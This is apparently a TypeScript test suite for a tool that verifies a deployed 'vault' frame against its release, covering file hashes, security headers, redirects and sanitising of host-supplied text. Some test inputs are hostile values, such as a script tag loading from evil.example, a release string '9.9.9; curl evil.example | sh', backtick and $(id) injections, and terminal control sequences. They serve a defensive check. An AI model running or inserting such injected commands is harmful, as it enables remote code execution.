import assert from 'node:assert/strict';
import { createServer, type OutgoingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test, type TestContext } from 'node:test';

import { compress } from '../cli/compression.js';
import { deploy } from '../cli/deployment.js';
import { serve } from '../cli/serve.js';
import { headerProblems } from '../cli/verify/headers.js';
import { deadlineAfter, get } from '../cli/verify/http.js';
import { verify } from '../cli/verify/index.js';
import { commandFor } from '../cli/verify/printable.js';
import { describe } from '../cli/verify/report.js';
import { CONFIGURATION, GIVEN, smallRelease } from './support/release.js';

const NOTHING = { embedders: [], uploads: [] };

/** Serves a frame behind a proxy that can change each answer. */
const served = async (
  context: TestContext,
  tamper: (
    path: string,
    answer: { status: number; headers: OutgoingHttpHeaders; body: Buffer; isPlain?: boolean },
  ) => void = () => {},
  release = smallRelease(),
): Promise<URL> => {
  const origin = await serve(deploy(release, CONFIGURATION, 'v1'), 0);
  const proxy: Server = createServer((request, response) => {
    const accepted = String(request.headers['accept-encoding'] ?? 'identity');
    // `get` decodes the body, so the proxy sends it without an encoding.
    void get(
      new URL(request.url ?? '', origin.url),
      { 'Accept-Encoding': accepted },
      deadlineAfter(10_000),
    ).then((answer) => {
      const headers: OutgoingHttpHeaders = Object.fromEntries(
        answer.headers.filter(
          ([name]) => !/^(content-encoding|content-length|connection|keep-alive|date)$/i.test(name),
        ),
      );
      const changed: Parameters<typeof tamper>[1] = {
        status: answer.status,
        headers,
        body: answer.body,
      };
      tamper(request.url ?? '', changed);
      if (answer.encoding == 'br' && !changed.isPlain) {
        changed.headers['Content-Encoding'] = 'br';
        changed.body = compress.br(changed.body);
      }
      response.writeHead(changed.status, changed.headers).end(changed.body);
    });
  });
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  context.after(async () => {
    proxy.closeAllConnections();
    proxy.close();
    await origin.stop();
  });
  return new URL(
    `http://127.0.0.1:${(proxy.address() as AddressInfo).port}${new URL(origin.url).pathname}`,
  );
};

const problems = async (
  frame: URL,
  expected: Parameters<typeof verify>[2] = NOTHING,
  release = smallRelease(),
): Promise<string[]> =>
  (await verify(frame, release, expected)).differences.map(
    ({ subject, problem }) => `${subject} ${problem}`,
  );

test('a frame that is served as it was deployed has no differences', async (context) => {
  const report = await verify(await served(context), smallRelease(), GIVEN);
  assert.deepEqual(report.differences, []);
  assert.ok(report.ok);
  assert.deepEqual(report.configuration, CONFIGURATION);
  assert.deepEqual(
    report.embedding.map(({ embedder, isAllowed }) => [embedder, isAllowed]),
    [
      ['https://app.example', true],
      ['https://admin.example', true],
    ],
  );
  assert.match(describe(report), /no differences: 4 files, 44 headers\n$/);
});

test('one changed byte is reported with both hashes', async (context) => {
  const frame = await served(context, (path, answer) => {
    if (path.endsWith('vault.js')) answer.body = Buffer.concat([answer.body, Buffer.from(' ')]);
  });
  const report = await verify(frame, smallRelease(), NOTHING);
  assert.deepEqual(
    report.differences.map(({ subject, problem }) => [subject, problem]),
    [['vault.js', 'differs from the released file']],
  );
  assert.match(describe(report), /expected sha384-.*\n {2}found {4}sha384-.*\n1 difference\n$/);
});

test('a changed document with the same configuration is reported', async (context) => {
  const frame = await served(context, (path, answer) => {
    if (path.endsWith('vault.html'))
      answer.body = Buffer.from(`${answer.body}<script src="https://evil.example"></script>`);
  });
  assert.deepEqual(await problems(frame), ['vault.html differs from the released file']);
});

for (const [what, change, expected] of [
  [
    'is missing',
    (headers: OutgoingHttpHeaders) => delete headers['Referrer-Policy'],
    /has no Referrer-Policy/,
  ],
  [
    'is weaker',
    (headers: OutgoingHttpHeaders) =>
      (headers['Content-Security-Policy'] = `${headers['Content-Security-Policy']}`.replace(
        'script-src',
        "script-src 'unsafe-inline'",
      )),
    /another Content-Security-Policy \(script-src\)/,
  ],
  [
    'comes twice',
    (headers: OutgoingHttpHeaders) => (headers['X-Content-Type-Options'] = ['nosniff', 'nosniff']),
    /X-Content-Type-Options 2 times/,
  ],
  [
    'is short',
    (headers: OutgoingHttpHeaders) => (headers['Strict-Transport-Security'] = 'max-age=300'),
    /another Strict-Transport-Security/,
  ],
  [
    'is another',
    (headers: OutgoingHttpHeaders) => (headers['Cache-Control'] = 'no-cache'),
    /another Cache-Control/,
  ],
  [
    'is no frame’s',
    (headers: OutgoingHttpHeaders) => (headers['Set-Cookie'] = 'a=b'),
    /sets a cookie/,
  ],
] as const) {
  test(`a header that ${what} is reported`, async (context) => {
    const frame = await served(
      context,
      (path, { headers }) => void (path.endsWith('vault.html') && change(headers)),
    );
    const found = await problems(frame);
    assert.equal(found.length, 1, found.join('\n'));
    assert.match(found[0] ?? '', expected);
  });
}

test('an embedder needs both the headers and the vault’s configuration', async (context) => {
  const frame = await served(context, (path, { headers }) => {
    if (path.endsWith('field.html')) headers['X-Frame-Options'] = 'DENY';
  });
  const other = { ...NOTHING, embedders: ['https://other.example', ...CONFIGURATION.embedders] };
  const report = await verify(frame, smallRelease(), other);
  assert.ok(report.embedding.every(({ isAllowed }) => !isAllowed));
  const [first] = report.embedding;
  assert.equal(first?.embedder, 'https://other.example');
  assert.equal(first?.reasons.length, 4, 'the vault, both policies, and X-Frame-Options');
  assert.ok(report.differences.some(({ problem }) => problem == 'has other embedders'));
});

test('an unexpected endpoint is reported', async (context) => {
  const found = await problems(await served(context), {
    ...NOTHING,
    api: 'https://other.example/graphql',
    uploads: ['https://u.example'],
  });
  assert.deepEqual(found, ['vault.html has another API', 'vault.html has other upload origins']);
});

test('a frame of another release is left to the package of that release', async (context) => {
  const frame = await served(context, () => {}, smallRelease('9.9.9'));
  const [difference] = await problems(frame);
  assert.match(difference ?? '', /another release.*npx sordino@9\.9\.9 frame --verify http/);
});

test('a host that redirects, answers for missing files or does not compress is reported', async (context) => {
  const redirected = await served(context, (path, answer) => {
    if (path.endsWith('field.html'))
      Object.assign(answer, { status: 308, headers: { Location: '/field' } });
  });
  assert.match(
    (await problems(redirected)).join('\n'),
    /field\.html answers 308, a redirect to \/field/,
  );

  const friendly = await served(context, (path, answer) => {
    if (path.includes('not-there'))
      Object.assign(answer, { status: 200, body: Buffer.from('<!doctype html>') });
  });
  assert.deepEqual(await problems(friendly), ['frame answers 200 for a missing file']);

  const plain = await served(
    context,
    (path, answer) => void (answer.isPlain = path.endsWith('vault.js')),
  );
  assert.deepEqual(await problems(plain), [
    'vault.js is not compressed for clients that accept br or gzip',
  ]);
});

test('an address without a frame is reported', async (context) => {
  const other = await served(
    context,
    (_, answer) => (answer.body = Buffer.from('<!doctype html>hello')),
  );
  assert.deepEqual(await problems(other), ['vault.html is not Sordino’s vault']);
  const [difference] = await problems(new URL('http://127.0.0.1:1/v1/'));
  assert.match(difference ?? '', /can’t be reached/);
});

test('headers are compared by their meaning', () => {
  const answer = (headers: [string, string][]) => ({
    status: 200,
    headers,
    encoding: 'identity',
    body: Buffer.alloc(0),
  });
  const same: [string, string, string][] = [
    [
      'Content-Security-Policy',
      "default-src 'none'; script-src a b",
      "script-src b  a;default-src 'none';",
    ],
    ['Cache-Control', 'public, max-age=31536000, immutable', 'immutable,max-age=31536000, public'],
    ['Content-Type', 'text/html; charset=utf-8', 'text/html;charset=UTF-8'],
    [
      'Strict-Transport-Security',
      'max-age=63072000',
      'max-age=31536000; includeSubDomains; preload',
    ],
  ];
  for (const [name, expected, found] of same)
    assert.deepEqual(
      headerProblems({ [name]: expected }, answer([[name.toLowerCase(), found]])),
      [],
      name,
    );
  const different: [string, string, string][] = [
    // If a directive occurs twice, the first counts.
    ['Content-Security-Policy', 'script-src a', 'script-src b; script-src a'],
    ['Content-Type', 'text/javascript; charset=utf-8', 'text/plain; charset=utf-8'],
    ['Referrer-Policy', 'no-referrer', 'no-referrer, unsafe-url'],
  ];
  for (const [name, expected, found] of different)
    assert.equal(headerProblems({ [name]: expected }, answer([[name, found]])).length, 1, name);
});

test('a command is suggested only for a strict version', async (context) => {
  for (const release of [
    '1.2',
    '9.9.9; curl evil.example | sh',
    'https://evil.example/x.tgz',
    '../../evil',
    'latest',
    '9.9.9+build',
    '9.9.9-`id`',
    `9.9.9-${'a'.repeat(40)}`,
  ]) {
    const frame = await served(context, () => {}, smallRelease(release));
    const { differences } = await verify(frame, smallRelease(), NOTHING);
    assert.deepEqual(
      differences.map(({ problem }) => problem),
      ['names no released version of this package'],
    );
  }
  const frame = new URL('https://frame.example/v1/');
  assert.equal(
    commandFor('9.9.9-rc.1', frame),
    'npx sordino@9.9.9-rc.1 frame --verify https://frame.example/v1/',
  );
  // `new URL` keeps these characters.
  const odd = new URL("https://frame.example/$(id)';x/");
  assert.equal(commandFor('9.9.9', odd), 'npx sordino@9.9.9 frame --verify URL');
});

test('texts of a host can’t move the cursor or change the direction of text', async (context) => {
  const evil = '\u001b[2Jok\u009b31m\u202eevil\u2028\u200b';
  const frame = await served(context, (path, answer) => {
    if (path.endsWith('vault.html')) answer.headers['X-Frame-Options'] = 'a\u009b31mb';
    if (path.endsWith('field.html'))
      Object.assign(answer, { status: 302, headers: { Location: '/a\u009b2Jb' } });
    if (path.endsWith('vault.js')) answer.headers['Referrer-Policy'] = 'c'.repeat(5_000);
  });
  const report = await verify(frame, smallRelease(), NOTHING);
  const said = [describe(report), JSON.stringify(report)];
  for (const text of said) {
    assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{Cc}\p{Cf}]/u);
    assert.match(text, /a31mb/, 'the rest of it is there');
    assert.match(text, /redirect to \/a2Jb/);
    assert.ok(!text.includes('c'.repeat(1_001)));
  }
  const named = await served(context, () => {}, smallRelease(evil));
  const [difference] = (await verify(named, smallRelease(), NOTHING)).differences;
  assert.equal(difference?.found, '[2Jok31mevil');
});

test('a host that sends bytes slowly is subject to the total time limit', async (context) => {
  let drips = 0;
  const dripping = createServer((_, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' });
    const timer = setInterval(() => {
      drips += 1;
      response.write(' ');
    }, 20);
    response.on('close', () => clearInterval(timer));
  });
  await new Promise<void>((resolve) => dripping.listen(0, '127.0.0.1', resolve));
  context.after(() => dripping.close());
  const frame = new URL(`http://127.0.0.1:${(dripping.address() as AddressInfo).port}/v1/`);
  const { ok, differences } = await verify(frame, smallRelease(), NOTHING, [], 300);
  assert.ok(!ok && drips > 1, 'it was not silent');
  assert.match(differences[0]?.problem ?? '', /can’t be reached: no complete answer within 0\.3 s/);
});
